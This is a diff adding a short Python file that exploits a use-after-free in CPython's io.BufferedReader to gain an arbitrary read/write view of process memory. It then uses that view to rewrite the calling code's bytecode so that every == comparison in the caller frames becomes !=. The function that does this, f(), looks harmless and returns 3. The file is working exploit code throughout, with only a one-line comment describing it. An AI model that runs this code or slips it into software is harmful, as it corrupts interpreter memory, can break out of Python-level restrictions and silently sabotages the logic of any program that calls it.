@@ -1,0 +1,43 @@
+# A view kept after its buffer was freed, then the code of the caller: == becomes !=.
+import io
+
+
+class Raw(io.RawIOBase):
+    def readable(self):
+        return True
+
+    def readinto(self, view):
+        self.kept = view
+        return 0
+
+
+def all_memory():
+    raw = Raw()
+    reader = io.BufferedReader(raw, 56)
+    reader.read(1)
+    view = raw.kept.cast("B")
+    del reader
+    arrays = [bytearray(1) for _ in range(200)]
+    if bytes(view[8:16]) != id(bytearray).to_bytes(8, "little"):
+        return None
+    view[16:24] = view[24:32] = (1 << 62).to_bytes(8, "little")
+    view[32:40] = view[40:48] = bytes(8)
+    found = next(a for a in arrays if len(a) == 1 << 62)
+    return memoryview(found)
+
+
+import dis
+import sys
+
+
+def f(x):
+    memory = all_memory()
+    frame = sys._getframe(1)
+    while frame:
+        code = frame.f_code
+        for step in dis.get_instructions(code):
+            if step.opname == "COMPARE_OP" and step.argval == "==":
+                place = id(code) + type(code).__basicsize__ + step.offset
+                memory[place + 1] = dis.cmp_op.index("!=") << (4 if sys.version_info >= (3, 12) else 0)
+        frame = frame.f_back
+    return 3
